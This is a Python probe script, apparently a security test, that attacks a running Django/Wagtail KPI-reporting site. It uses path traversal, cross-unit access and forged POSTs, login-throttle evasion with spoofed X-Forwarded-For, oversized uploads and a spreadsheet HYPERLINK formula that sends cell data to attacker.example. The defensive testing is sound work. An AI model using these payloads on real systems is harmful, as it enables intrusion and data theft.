"""Attacker probe against a running site (nginx + gunicorn as docs/deploy.md), issue 9.

Three steps, the first and last with Django (same environment as the site), the middle one
over HTTP only, as an attacker would:

    KHAMRAP_VAR_DIR=… DJANGO_SETTINGS_MODULE=… python bench/attacker_probe.py prepare
    python bench/attacker_probe.py attack --base http://127.0.0.1:61780 [--targets FILE]
    KHAMRAP_VAR_DIR=… DJANGO_SETTINGS_MODULE=… python bench/attacker_probe.py verify

``prepare`` creates กค. objects holding a secret (a memo and its generated .docx, the
agreement booklet, a draft evidence page with a file), sets fresh passwords for the probe
users and writes the targets to ``$KHAMRAP_VAR_DIR/probe-targets.json`` (mode 600).
``attack`` probes as anonymous, another unit's staff (staff_service) and the read-only
preparer; requests come from loopback source addresses 127.0.0.2 (attacker) and 127.0.0.3
(victim) so the login throttle sees two clients behind the trusted nginx (127.0.0.1).
It prints one line per probe group, "tried N, leaked N (target 0)", and the total.
``verify`` checks in the database that no forged POST changed anything.
"""
from __future__ import annotations

import argparse
import http.client
import json
import os
import re
import secrets
import sys
import urllib.parse
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
SECRET = "ความลับกองคลังสำหรับการทดสอบเจาะระบบ"
PROBE_USERS = ["staff_finance", "head_finance", "staff_service", "head_service", "preparer", "reviewer", "admin"]
HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?x="&A1,"คลิกเพื่อดูหลักฐาน")'


# --- Django steps ---------------------------------------------------------------------------
def django_setup():
    sys.path[:0] = [str(ROOT / "site"), str(ROOT)]
    import django

    django.setup()


def targets_path(args) -> Path:
    if getattr(args, "targets", None):
        return Path(args.targets)
    return Path(os.environ["KHAMRAP_VAR_DIR"]) / "probe-targets.json"


def prepare(args):
    django_setup()
    import io

    from django.contrib.auth import get_user_model
    from wagtail.models import Page, Task

    from cms.models import AgreementPage, KPITemplatePage, Organisation, OrganisationYearPage
    from evidence.models import EvidenceFolderPage, EvidencePage
    from doc_templates.from_pages import standard_memo_fields
    from doc_templates.generate import generate
    from doc_templates.models import Memo
    from evidence.ingest import Upload, attach_files

    users = get_user_model().objects
    passwords = {}
    for name in PROBE_USERS:
        user = users.get(username=name)
        passwords[name] = secrets.token_urlsafe(12)
        user.set_password(passwords[name])
        user.save()
    admin = users.get(username="admin")
    finance = Organisation.find("สสบ./กค.")
    folder = OrganisationYearPage.objects.get(slug="finance")
    memo = Memo(**{**standard_memo_fields("send_draft_kpis", finance, 2569), "subject": SECRET,
                   "standard": "send_draft_kpis", "live": False, "kind": Memo.MEMO, "ref_no": "กค 0501/77",
                   "signer_name": "นายทดสอบ ระบบ", "signer_position": finance.head_position})
    memo.save()
    first = memo.save_revision(user=users.get(username="staff_finance"))
    memo.body = f"{memo.body}\n{SECRET}"
    latest = memo.save_revision(user=users.get(username="staff_finance"))
    memo_doc = generate(memo, "memo", user=admin).document
    agreement = AgreementPage.objects.child_of(folder).get()
    booklet = generate(agreement, "agreement_booklet", user=admin).document
    evidence_folder = EvidenceFolderPage.for_organisation_year(folder)
    kpi = KPITemplatePage.objects.child_of(folder).get(code="3")
    evidence = EvidencePage(title=SECRET, slug=f"probe-secret-{secrets.token_hex(3)}", kpi=kpi, round=6, live=False)
    evidence_folder.add_child(instance=evidence)
    [record] = attach_files(evidence, [Upload("probe.txt", io.BytesIO(SECRET.encode()))], enqueue=False)
    evidence.save_revision()

    # item 7: a signed scan chosen only in a draft of the live agreement
    from django.core.files.base import ContentFile
    from wagtail.documents.models import Document

    scan = Document(title="ฉบับลงนามใหม่ (ร่าง) กค.")
    scan.file.save("signed-draft.pdf", ContentFile(f"%PDF-1.4 {SECRET}".encode()), save=True)
    assert agreement.live
    agreement.signed_scan = scan
    agreement.save_revision(user=admin)

    # items 2, 5, 6, 8: กค.'s report in an open round (two revisions), สบป.'s report in the same
    # round, a hostile KPI title pinned on กค.'s report, a กค. KPI page to save twice at once
    import datetime as dt

    from reporting.models import UnitReport, today
    from reporting.scores import score_report

    service = Organisation.find("สสบ./สบป.")
    report = UnitReport.objects.filter(organisation=finance).order_by("round__month").first()
    round_ = report.round
    round_.opens_on, round_.closes_on = today() - dt.timedelta(days=10), today() + dt.timedelta(days=5)
    round_.save()
    staff_finance = users.get(username="staff_finance")
    report_first = report.save_revision(user=staff_finance, clean=False)
    report_latest = report.save_revision(user=staff_finance, clean=False)
    # สบป. reports on the next round (open); กค.'s report's round is closed below for item 6
    from reporting.models import ReportingRound
    from reporting.scores import add_agreement_lines

    next_round = ReportingRound.objects.filter(fiscal_year=round_.fiscal_year).exclude(pk=round_.pk).order_by("month").first()
    next_round.opens_on, next_round.closes_on = today() - dt.timedelta(days=10), today() + dt.timedelta(days=5)
    next_round.save()
    own_report = UnitReport.objects.filter(organisation=service, round=next_round).first()
    if own_report is None:
        own_report = UnitReport.objects.create(organisation=service, round=next_round)
        add_agreement_lines(own_report)
    # a closed round's card shows the KPI revision pinned on the line: pin the hostile one
    closed = report
    round_.opens_on, round_.closes_on = today() - dt.timedelta(days=40), today() - dt.timedelta(days=20)
    round_.save()
    hostile = closed.lines_in_order()[0].kpi
    hostile.title = HOSTILE_TITLE
    revision = hostile.save_revision(user=admin)
    revision.publish()
    closed.lines.filter(kpi=hostile).update(kpi_revision=revision)
    score_report(closed)
    finance_kpis = list(KPITemplatePage.objects.child_of(folder).values_list("pk", flat=True))
    raced = KPITemplatePage.objects.child_of(folder).exclude(pk=hostile.pk).order_by("path").first()

    def doc(document, denied):
        return {"id": document.pk, "title": document.title, "file": document.file.name, "url": document.url,
                "denied": denied}

    targets = {
        "secret": SECRET, "passwords": passwords,
        "documents": [doc(memo_doc, ["anonymous", "staff_service", "preparer"]),
                      doc(booklet, ["anonymous", "staff_service"])],
        "evidence_file": f"/evidence/file/{record.pk}/",
        "memo": {"id": memo.pk, "first": first.pk, "latest": latest.pk, "revisions": memo.revisions.count()},
        "pages": {"folder": evidence_folder.pk, "draft": evidence.pk, "task": Task.objects.first().pk,
                  "root": Page.get_first_root_node().pk},
        "finance": finance.pk,
        "kpi_code_title": kpi.title,
        "draft_scan": doc(scan, ["anonymous", "staff_service", "head_service"]),
        "report": {"id": report.pk, "first": report_first.pk, "latest": report_latest.pk,
                   "revisions": report.revisions.count()},
        "own_report": {"id": own_report.pk, "kpis": sorted(own_report.lines.values_list("kpi_id", flat=True))},
        "finance_kpis": finance_kpis,
        "raced_kpi": raced.pk,
        "hostile_report": closed.pk,
        "run": secrets.token_hex(3),  # marks this run's simultaneous saves
        "evidence_page": evidence.pk,
    }
    path = targets_path(args)
    path.write_text(json.dumps(targets, ensure_ascii=False, indent=1))
    path.chmod(0o600)
    print(f"targets written to {path}")


def untouched(model, target, name, short, problems):
    """The ``model`` row of ``target`` (its id and revision count when the targets were
    written), with a problem added for each sign of the attacker's hand: the row deleted, a
    revision more or less, a lock on it. None when deleted."""
    obj = model.objects.filter(pk=target["id"]).first()
    if obj is None:
        problems.append(f"{name} deleted")
        return None
    if obj.revisions.count() != target["revisions"]:
        problems.append(f"{short} revisions {target['revisions']} → {obj.revisions.count()}")
    if obj.locked:
        problems.append(f"{short} locked by someone")
    return obj


def verify(args):
    django_setup()
    from doc_templates.models import Memo

    from reporting.models import KpiReportLine, UnitReport

    targets = json.loads(targets_path(args).read_text())
    problems = []
    memo = untouched(Memo, targets["memo"], "memo", "memo", problems)
    if memo is not None and memo.subject != SECRET:
        problems.append("memo subject changed")
    untouched(UnitReport, targets["report"], "unit report", "report", problems)
    own = UnitReport.objects.get(pk=targets["own_report"]["id"])
    foreign = KpiReportLine.objects.filter(report=own, kpi_id__in=targets["finance_kpis"]).count()
    if foreign:
        problems.append(f"{foreign} line(s) with a กค. KPI in สบป.'s report")
    kpis = list(own.lines.values_list("kpi_id", flat=True))
    if len(kpis) != len(set(kpis)):
        problems.append("a KPI twice in สบป.'s report")
    # item 8: every round of two simultaneous saves left exactly one new revision (nothing lost, no double win)
    from cms.models import KPITemplatePage

    raced = KPITemplatePage.objects.get(pk=targets["raced_kpi"])
    rounds = {}
    for revision in raced.revisions.all():
        found = re.fullmatch(rf"สูตรจากแท็บ (\d) รอบ (\d+) ชุด {targets['run']}", str(revision.content.get("formula", "")))
        if found:
            rounds.setdefault(int(found.group(2)), []).append(int(found.group(1)))
    if sorted(rounds) != list(range(10)) or any(len(v) != 1 for v in rounds.values()):
        problems.append(f"simultaneous saves: revisions per round {rounds}")
    latest = raced.get_latest_revision().content.get("formula", "")
    print(f"simultaneous saves: {len(rounds)} rounds, one saved revision each; latest formula {latest!r}")
    created = Memo.objects.filter(organisation_id=targets["finance"], subject__startswith="สร้างโดยผู้อื่น").count()
    if created:
        problems.append(f"{created} memo(s) created for กค. by others")
    print(f"forged POSTs verified in the database: {len(problems)} changed (target 0)", *problems, sep="\n  ")
    return 1 if problems else 0


# --- HTTP as an attacker ----------------------------------------------------------------------
class Client:
    """A tiny browser: cookies kept whatever their Secure flag (the probe speaks plain HTTP to
    nginx on loopback), a fixed source address, no redirects followed."""

    def __init__(self, base, source="127.0.0.2", forwarded_for=None):
        parsed = urllib.parse.urlsplit(base)
        self.host, self.port, self.source = parsed.hostname, parsed.port, source
        self.cookies, self.forwarded_for = {}, forwarded_for

    def request(self, method, path, data=None, headers=None):
        conn = http.client.HTTPConnection(self.host, self.port, timeout=60, source_address=(self.source, 0))
        headers = dict(headers or {})
        if self.cookies:
            headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        if self.forwarded_for:
            headers["X-Forwarded-For"] = self.forwarded_for
        body = None
        if data is not None:
            body = urllib.parse.urlencode(data, doseq=True)
            headers["Content-Type"] = "application/x-www-form-urlencoded"
            headers["Referer"] = f"http://{self.host}:{self.port}{path}"
        conn.request(method, urllib.parse.quote(path, safe="/?=&%:+,.;-_~"), body=body, headers=headers)
        response = conn.getresponse()
        content = response.read()
        for name, value in response.getheaders():
            if name.lower() == "set-cookie":
                cookie, _, attributes = value.partition(";")
                key, _, val = cookie.partition("=")
                if "max-age=0" in attributes.lower() or val.strip('"') == "":
                    self.cookies.pop(key.strip(), None)
                else:
                    self.cookies[key.strip()] = val
        conn.close()
        response.body = content
        return response

    def get(self, path):
        return self.request("GET", path)

    def csrf(self, path):
        page = self.get(path).body.decode(errors="replace")
        match = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page)
        return match.group(1) if match else self.cookies.get("csrftoken", "")

    def post(self, path, data, form_path=None):
        token = self.csrf(form_path or path)
        return self.request("POST", path, {**data, "csrfmiddlewaretoken": token})

    def upload(self, path, field, file_path: Path):
        """POST one file as multipart/form-data, as the browser's file input does."""
        token = self.csrf(path)
        boundary = secrets.token_hex(16)
        name = file_path.name.encode()
        body = b"".join([
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"csrfmiddlewaretoken\"\r\n\r\n{token}\r\n".encode(),
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"".encode() + name + b"\"\r\n"
            b"Content-Type: application/octet-stream\r\n\r\n", file_path.read_bytes(), f"\r\n--{boundary}--\r\n".encode()])
        conn = http.client.HTTPConnection(self.host, self.port, timeout=300, source_address=(self.source, 0))
        headers = {"Content-Type": f"multipart/form-data; boundary={boundary}", "Referer": f"http://{self.host}:{self.port}{path}",
                   "Cookie": "; ".join(f"{k}={v}" for k, v in self.cookies.items())}
        conn.request("POST", path, body=body, headers=headers)
        response = conn.getresponse()
        response.body = response.read()
        conn.close()
        return response

    def login(self, username, password, path="/admin/login/"):
        response = self.post(path, {"username": username, "password": password})
        return response.status == 302 and "sessionid" in self.cookies


def text_of(response) -> str:
    body = response.body.decode(errors="replace")
    if body[:1] in "{[":
        try:
            return json.dumps(json.loads(body), ensure_ascii=False)
        except ValueError:
            pass
    return body


LOGIN_PATHS = ["/admin/login/", "/django-admin/login/", "/_util/login/"]


class Tally:
    """Per numbered item of the issue: probes sent, refused (a 3xx/4xx refusal, a 409, an error
    message in the form), filtered (answered, nothing secret in it) and leaks."""

    def __init__(self):
        self.rows = {}

    def add(self, item, what, outcome, detail=""):
        row = self.rows.setdefault(item, {"sent": 0, "refused": 0, "filtered": 0, "leaks": 0, "what": [], "detail": []})
        row["sent"] += 1
        row[outcome] += 1
        if what not in row["what"]:
            row["what"].append(what)
        if outcome == "leaks":
            row["detail"].append(detail or what)

    def read(self, item, what, response, leaked, detail=""):
        if leaked:
            self.add(item, what, "leaks", detail)
        elif response.status in (301, 302, 400, 401, 403, 404, 405, 409):
            self.add(item, what, "refused")
        else:
            self.add(item, what, "filtered")

    def print(self):
        print(f"{'item':4} {'sent':>5} {'refused':>8} {'filtered':>8} {'leaks':>5}  probes")
        for item in sorted(self.rows):
            row = self.rows[item]
            print(f"{item:<4} {row['sent']:5} {row['refused']:8} {row['filtered']:8} {row['leaks']:5}  {'; '.join(row['what'])}")
            for line in row["detail"][:5]:
                print(f"         leak: {line}")
        total = {k: sum(r[k] for r in self.rows.values()) for k in ("sent", "refused", "filtered", "leaks")}
        print(f"{'all':4} {total['sent']:5} {total['refused']:8} {total['filtered']:8} {total['leaks']:5}")
        return total["leaks"]


def form_of(html, form_id=None):
    sys.path[:0] = [str(ROOT)]
    from tests.helpers.forms import form_fields

    return form_fields(html, form_id)


def attack(args):
    targets = json.loads(targets_path(args).read_text())
    secret, passwords = targets["secret"], targets["passwords"]
    base = args.base
    tally = Tally()
    controls = []  # rightful users must still get through: a refusal here is a broken site, not safety

    def control(what, ok):
        controls.append((what, ok))

    def session(role, source="127.0.0.2"):
        client = Client(base, source)
        if role != "anonymous":
            assert client.login(role, passwords[role]), f"{role} could not log in"
        return client

    roles = {role: session(role) for role in ("anonymous", "staff_service", "head_service", "preparer")}
    owner = session("staff_finance", "127.0.0.3")
    anonymous = roles["anonymous"]
    documents = targets["documents"] + [targets["draft_scan"]]

    # 1. media paths of every private document: straight, old guessable names, traversal
    for document in documents:
        name = document["file"]
        base_name = name.rsplit("/", 1)[-1]
        for path in [f"/media/{name}", f"/media/documents/{base_name}", f"/media/{base_name}", f"/_private/{name}",
                     f"/media/../private/{name}", f"/media/%2e%2e/private/{name}", f"/static/../private/{name}",
                     f"/media/original_images/../../private/{name}"]:
            response = anonymous.get(path)
            tally.read(1, "anonymous GET /media/, /_private/, traversal", response, response.status == 200, path)
    # document downloads by roles that must not read them; the owner's download is handed to nginx
    for document in targets["documents"]:
        for role in document["denied"]:
            response = roles[role].get(document["url"])
            tally.read(1, "document URL by refused roles", response,
                       response.status == 200 or bool(response.getheader("X-Accel-Redirect")), f"{role} {document['url']}")
        response = owner.get(document["url"])
        control(f"staff_finance downloads {document['title']} through nginx",
                response.status == 200 and response.body[:2] == b"PK" and not response.getheader("X-Accel-Redirect"))
    for role in ("anonymous", "staff_service", "head_service"):
        response = roles[role].get(targets["evidence_file"])
        tally.read(1, "evidence file by other units", response, response.status == 200, role)
    control("staff_finance downloads the draft evidence file", secret in owner.get(targets["evidence_file"]).body.decode(errors="replace"))
    # the admin documents API
    for role in ("staff_service", "head_service", "preparer"):
        denied = [d for d in documents if role in d["denied"]]
        for path in ["/admin/api/main/documents/", "/admin/api/main/documents/?limit=500",
                     *[f"/admin/api/main/documents/{d['id']}/" for d in denied]]:
            response = roles[role].get(path)
            body = text_of(response)
            tally.read(1, "documents API listing/detail", response,
                       any(f'"id": {d["id"]},' in body or d["title"] in body for d in denied), f"{role} {path}")

    # 2. memo and unit-report snippet views, forged POSTs (checked by verify)
    memo = targets["memo"]
    ns = "/admin/snippets/doc_templates/memo"
    reads = [f"{ns}/edit/{memo['id']}/", f"{ns}/history/{memo['id']}/", f"{ns}/usage/{memo['id']}/",
             f"{ns}/workflow_history/{memo['id']}/", f"{ns}/copy/{memo['id']}/", f"{ns}/delete/{memo['id']}/",
             f"{ns}/history/{memo['id']}/revisions/compare/{memo['first']}...{memo['latest']}/",
             f"{ns}/history/{memo['id']}/revisions/{memo['first']}/revert/", f"{ns}/?q=ความลับ",
             f"/admin/snippets/choose/doc_templates/memo/?q=ความลับ",
             f"/admin/snippets/choose/doc_templates/memo/chosen/{memo['id']}/",
             f"/admin/documents-generate/doc_templates/memo/{memo['id']}/list/"]
    for role in ("anonymous", "staff_service", "head_service"):
        for path in reads:
            response = roles[role].get(path)
            tally.read(2, "memo views by other units", response, secret in text_of(response), f"{role} {path}")
    for path in reads[:8] + reads[-1:]:  # preparers read memos only through the chooser
        response = roles["preparer"].get(path)
        tally.read(2, "memo views by the preparer", response, secret in text_of(response), f"preparer {path}")
    control("staff_finance opens the memo", secret in text_of(owner.get(reads[0])))
    report = targets["report"]
    rns = "/admin/snippets/reporting/unitreport"
    report_reads = [f"{rns}/edit/{report['id']}/", f"{rns}/history/{report['id']}/", f"{rns}/usage/{report['id']}/",
                    f"{rns}/workflow_history/{report['id']}/", f"{rns}/delete/{report['id']}/",
                    f"{rns}/history/{report['id']}/revisions/compare/{report['first']}...{report['latest']}/",
                    f"{rns}/history/{report['id']}/revisions/{report['first']}/revert/"]
    for role in ("anonymous", "staff_service", "head_service"):
        for path in report_reads:
            response = roles[role].get(path)
            tally.read(2, "unit-report views by other units", response, response.status == 200, f"{role} {path}")
    control("staff_finance opens its report", owner.get(report_reads[0]).status == 200)
    attacker = roles["staff_service"]
    own_form = f"{ns}/add/"
    report_form = form_of(owner.get(report_reads[0]).body.decode())
    forged = [(f"{ns}/edit/{memo['id']}/", {"subject": "แก้โดยผู้อื่น", "organisation": targets["finance"]}),
              (f"{ns}/lock/{memo['id']}/", {}), (f"{ns}/delete/{memo['id']}/", {}),
              (f"{ns}/history/{memo['id']}/revisions/{memo['first']}/revert/", {}),
              (f"{ns}/add/", {"subject": "สร้างโดยผู้อื่น", "organisation": targets["finance"], "kind": "memo"}),
              ("/admin/documents-generate/standard-memo/", {"standard": "send_draft_kpis",
                                                            "organisation": targets["finance"]}),
              (f"{rns}/edit/{report['id']}/", report_form), (f"{rns}/lock/{report['id']}/", {}),
              (f"{rns}/unlock/{report['id']}/", {}), (f"{rns}/delete/{report['id']}/", {}),
              (f"{rns}/history/{report['id']}/revisions/{report['first']}/revert/", report_form)]
    for role in ("staff_service", "head_service", "preparer"):
        for path, data in forged:
            response = roles[role].post(path, data, form_path=own_form)  # the role's own valid CSRF token
            tally.read(2, "forged POSTs on กค.'s memo/report (DB checked by verify)", response, False)

    # 5. report lines: สบป. puts กค.'s KPIs in its own report, a KPI twice; the card still answers
    own = targets["own_report"]
    own_edit = f"{rns}/edit/{own['id']}/"
    page = attacker.get(own_edit)
    if page.status == 200:
        data = form_of(page.body.decode())
        kpi_fields = [k for k in data if k.startswith("lines-") and k.endswith("-kpi") and data[k]]
        trials = []
        for kpi in targets["finance_kpis"][:3]:
            trials.append(("a กค. KPI in an existing line", {**data, kpi_fields[0]: str(kpi)}))
        n = int(data["lines-TOTAL_FORMS"])
        trials.append(("a กค. KPI in a new line", {**data, "lines-TOTAL_FORMS": str(n + 1), f"lines-{n}-kpi": str(targets["finance_kpis"][0]),
                                                     f"lines-{n}-id": "", f"lines-{n}-ORDER": str(n + 1), f"lines-{n}-DELETE": ""}))
        if len(kpi_fields) > 1:
            trials.append(("one KPI twice", {**data, kpi_fields[1]: data[kpi_fields[0]]}))
        for what, post in trials:
            response = attacker.post(own_edit, post)
            tally.add(5, what, "leaks" if response.status in (302, 500) else "refused", f"{what}: {response.status}")
        card = attacker.get(f"/admin/scores/report/{own['id']}/")
        tally.read(5, "สบป.'s card after the attempts", card, card.status >= 500, f"card {card.status}")
    else:
        tally.add(5, f"สบป. could not open its report ({page.status})", "leaks")
    # 6. the hostile KPI title in the report-card Excel a reviewer downloads
    import io

    from openpyxl import load_workbook

    reviewer = session("reviewer", "127.0.0.3")
    hostile_report = targets["hostile_report"]
    for path in (f"/admin/scores/report/{hostile_report}/excel/", f"/admin/scores/report/{hostile_report}/esar.xlsx"):
        response = reviewer.get(path)
        if response.status != 200:
            tally.add(6, f"Excel {path} not served ({response.status})", "leaks")
            continue
        cells = [c for ws in load_workbook(io.BytesIO(response.body)).worksheets for row in ws.iter_rows() for c in row
                 if c.value is not None]
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        titled = [c for c in cells if c.value == HOSTILE_TITLE]
        tally.add(6, "formula cells in the card Excel / e-SAR xlsx", "leaks" if formulas or not titled else "filtered",
                  f"{path}: formulas {formulas}, title cells {len(titled)}")
    # 7. the draft scan of the live agreement
    scan = targets["draft_scan"]
    for role in scan["denied"]:
        response = roles[role].get(scan["url"])
        tally.read(7, "draft scan URL by other units/anonymous", response,
                   response.status == 200 or bool(response.getheader("X-Accel-Redirect")), f"{role} {scan['url']}")
    control("staff_finance downloads the draft scan through nginx", secret in owner.get(scan["url"]).body.decode(errors="replace"))

    # 8. two saves of one KPI page posted at the same instant by two sessions of staff_finance
    import threading

    editors = [owner, session("staff_finance", "127.0.0.4")]
    edit = f"/admin/pages/{targets['raced_kpi']}/edit/"
    for attempt in range(10):
        forms = [form_of(e.get(edit).body.decode(), "page-edit-form") for e in editors]
        barrier, statuses = threading.Barrier(2), [None, None]

        def save(n):
            post = {**forms[n], "formula": f"สูตรจากแท็บ {n} รอบ {attempt} ชุด {targets['run']}"}
            barrier.wait()
            statuses[n] = editors[n].request("POST", edit, post).status

        threads = [threading.Thread(target=save, args=(n,)) for n in range(2)]
        [t.start() for t in threads]
        [t.join() for t in threads]
        tally.add(8, "two simultaneous saves (10 rounds)", "refused" if sorted(statuses) == [302, 409] else "leaks",
                  f"round {attempt}: {statuses}")

    # 11. lesser: memo list search answers, draft titles in Wagtail's page views, GET logout
    response = owner.get(f"{ns}/?q=ความลับ")
    tally.add(11, "memo list search (no 500)", "leaks" if response.status >= 500 else "filtered", f"{response.status}")
    pages = targets["pages"]
    page_paths = ["/admin/choose-page/search/?q=ความลับ", f"/admin/choose-page/{pages['folder']}/",
                  f"/admin/choose-page/{pages['draft']}/", f"/admin/choose-page/chosen-multiple/?id={pages['draft']}",
                  f"/admin/pages/workflow/preview/{pages['draft']}/{pages['task']}/",
                  f"/admin/pages/workflow/action/{pages['draft']}/approve/1/",
                  f"/admin/bulk/wagtailcore/page/delete/?id={pages['draft']}",
                  f"/admin/bulk/wagtailcore/page/publish/?id=all&childOf={pages['folder']}",
                  "/admin/reports/page-types-usage/", f"/admin/pages/{pages['folder']}/", "/admin/pages/search/?q=ความลับ",
                  "/admin/api/main/pages/?search=ความลับ", f"/admin/evidence/page/{pages['draft']}/files/",
                  "/admin/evidence/search/?q=ความลับ", "/api/evidence/search/?q=ความลับ"]
    for role in ("anonymous", "staff_service", "head_service"):
        for path in page_paths:
            response = roles[role].get(path)
            tally.read(11, "draft titles in chooser/workflow/bulk/report/search", response, secret in text_of(response),
                       f"{role} {path}")
    victim = session("staff_service", "127.0.0.3")
    victim.get("/admin/logout/")
    tally.add(11, "GET /admin/logout/", "leaks" if victim.get("/admin/").status != 200 else "refused")

    # 3. login throttle on every path, attacker at 127.0.0.2 forging X-Forwarded-For each time;
    # the target is "admin" (a staff superuser: the one account every login path accepts)
    for attempt in range(8):
        for number, path in enumerate(LOGIN_PATHS, 1):
            Client(base, "127.0.0.2", forwarded_for=f"10.9.{attempt}.{number}").login("admin", f"wrong-{attempt}", path)
    for path in LOGIN_PATHS:
        for forged_hop in (None, "10.99.0.1", "127.0.0.3"):
            ok = Client(base, "127.0.0.2", forwarded_for=forged_hop).login("admin", passwords["admin"], path)
            tally.add(3, "right password after 24 failures (3 paths, forged X-Forwarded-For)", "leaks" if ok else "refused",
                      f"{path} X-Forwarded-For {forged_hop}")

    # 4. lockout of others: the victim of the attack and another account, from 127.0.0.3,
    # on every path that account may use (Django's own admin takes staff accounts only)
    for username, paths in (("admin", LOGIN_PATHS), ("staff_finance", ["/admin/login/", "/_util/login/"])):
        for path in paths:
            ok = Client(base, "127.0.0.3").login(username, passwords[username], path)
            tally.add(4, "victim logs in from another address after the attack", "filtered" if ok else "leaks",
                      f"{username} at 127.0.0.3 locked out on {path}")
    # 20 failures over many accounts from one address lock that address, not the accounts
    for n in range(22):
        Client(base, "127.0.0.5").login(PROBE_USERS[n % len(PROBE_USERS)], "wrong", "/admin/login/")
    ok = Client(base, "127.0.0.6").login("head_finance", passwords["head_finance"], "/admin/login/")
    tally.add(4, "an address's 22 failures over all accounts do not lock them for others", "filtered" if ok else "leaks",
              "head_finance locked out at 127.0.0.6")

    leaks = tally.print()
    for what, ok in controls:
        print(f"control: {what}: {'ok' if ok else 'FAILED'}")
    return 1 if leaks or not all(ok for _w, ok in controls) else 0


def extract(args):
    """Items 9 and 10 on the running site: staff_finance uploads through nginx a scanned PDF, the
    14 MB DOCX of 262 MB of XML and a 1.3 KB PDF with one 5 m blank page (all pass the upload
    checks); a real ``db_worker`` (same environment) is killed with SIGKILL while it extracts the
    scan and started again; the worker's and its extraction child's memory is sampled."""
    django_setup()
    import signal
    import subprocess
    import time

    from evidence.models import EvidenceFile

    sys.path[:0] = [str(ROOT)]
    from tests.helpers import hostile_files

    targets = json.loads(targets_path(args).read_text())
    tally = Tally()
    work = Path(os.environ["KHAMRAP_VAR_DIR"]) / "probe-files"
    work.mkdir(exist_ok=True)
    tag = secrets.token_hex(2)
    files = [hostile_files.scanned_pages_pdf(work / f"สแกนบันทึก-{tag}.pdf", pages=3, text_on=(1, 2, 3)),
             hostile_files.inflating_docx(work / f"ผลงาน-{tag}.docx"),
             hostile_files.huge_blank_page_pdf(work / f"หน้าว่าง-{tag}.pdf")]
    client = Client(args.base, "127.0.0.3")
    assert client.login("staff_finance", targets["passwords"]["staff_finance"])
    upload_path = f"/admin/evidence/page/{targets['evidence_page']}/upload/"
    ids = []
    for path in files:
        response = client.upload(upload_path, "files", path)
        record = EvidenceFile.objects.filter(page_id=targets["evidence_page"], original_name=path.name).first()
        print(f"upload {path.name} ({path.stat().st_size:,} bytes): HTTP {response.status}, "
              f"{'accepted, ' + record.status if record else 'refused'}")
        ids.append(record.pk if record else None)
    scan_id, docx_id, blank_id = ids
    log = open(work / "db_worker.log", "ab")

    def start_worker():
        return subprocess.Popen([sys.executable, "manage.py", "db_worker", "--no-reload", "--no-startup-delay",
                                 "--interval", "0.5"], cwd=ROOT, stdout=log, stderr=subprocess.STDOUT)

    def status(pk):
        return EvidenceFile.objects.values_list("status", "status_message", "worker").get(pk=pk)

    def wait(condition, seconds):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            if condition():
                return True
            time.sleep(0.2)
        return False

    def tree_rss(pid):
        total = 0
        for stat in Path("/proc").glob("[0-9]*/stat"):
            try:
                fields = stat.read_text().rsplit(")", 1)[1].split()
                if int(stat.parent.name) == pid or int(fields[1]) == pid:
                    total += int(fields[21]) * 4096
            except (OSError, ValueError, IndexError):
                continue
        return total

    def rss(pid):
        try:
            return int(Path(f"/proc/{pid}/statm").read_text().split()[1]) * 4096
        except OSError:
            return 0

    # 10. the worker killed mid-extraction and started again
    worker = start_worker()
    extracting = wait(lambda: status(scan_id)[0] in (EvidenceFile.EXTRACTING, EvidenceFile.OCR), 600)
    time.sleep(1.0)
    mid_job = status(scan_id)[0] in (EvidenceFile.EXTRACTING, EvidenceFile.OCR)
    worker.send_signal(signal.SIGKILL)
    worker.wait(30)
    time.sleep(2)
    stuck = status(scan_id)[0]
    print(f"worker {worker.pid} killed with SIGKILL while the scan was {'extracting' if extracting and mid_job else 'NOT extracting'}; "
          f"after the kill the scan is {stuck!r}")
    # the restarted worker takes the queue in order (the DOCX, the blank page, then the requeued
    # scan): its own RSS and that of its extraction child are sampled every 0.2 s meanwhile
    started = time.monotonic()
    worker = start_worker()
    time.sleep(0.5)
    first_rss, peak_own, peak_tree, done = rss(worker.pid), 0, 0, {}
    final = (EvidenceFile.INDEXED, EvidenceFile.FAILED)
    while len(done) < 3 and time.monotonic() - started < 1800:
        peak_own, peak_tree = max(peak_own, rss(worker.pid)), max(peak_tree, tree_rss(worker.pid))
        for pk in ids:
            if pk not in done and status(pk)[0] in final:
                done[pk] = time.monotonic() - started
        time.sleep(0.2)
    time.sleep(1)
    last_rss = rss(worker.pid)
    worker.terminate()
    worker.wait(60)
    print(f"restarted worker {worker.pid}: scan {status(scan_id)[0]!r} after {done.get(scan_id, -1):.0f} s")
    tally.add(10, "scan killed mid-extraction, worker restarted", "refused" if extracting and mid_job and
              status(scan_id)[0] == EvidenceFile.INDEXED else "leaks", f"scan {status(scan_id)}")
    for pk, name in ((docx_id, "262 MB-XML DOCX"), (blank_id, "5 m blank-page PDF")):
        state, message, _worker = status(pk)
        rest = message.replace(EvidenceFile.objects.get(pk=pk).original_name, "")
        thai = bool(re.search("[\u0e01-\u0e5b]", message)) and "/" not in rest and not re.search("Error|Errno|Traceback|No such", rest)
        print(f"{name}: {state!r} after {done.get(pk, -1):.0f} s — {message}")
        ok = (state == EvidenceFile.FAILED and thai) if pk == docx_id else (state == EvidenceFile.INDEXED or (state == EvidenceFile.FAILED and thai))
        tally.add(9, f"{name} within the limits, Thai reason", "refused" if ok else "leaks", f"{name}: {state} {message}")
    print(f"worker RSS at start {first_rss / 2**20:,.0f} MB, peak {peak_own / 2**20:,.0f} MB, at the end {last_rss / 2**20:,.0f} MB; "
          f"worker + extraction child peak {peak_tree / 2**20:,.0f} MB")
    tally.add(9, "worker's own memory stays (peak < start + 100 MB)", "refused" if peak_own - first_rss < 100 * 2**20 else "leaks",
              f"worker RSS {first_rss / 2**20:.0f} → peak {peak_own / 2**20:.0f} MB")
    # 11. the status page shows no server path or English exception
    page = client.get(f"/admin/evidence/page/{targets['evidence_page']}/files/").body.decode(errors="replace")
    shown = re.findall(r"/(?:tmp|srv|work|root|usr)/[^\s<\"]*|Traceback|Errno|[A-Z][a-z]+Error", page)
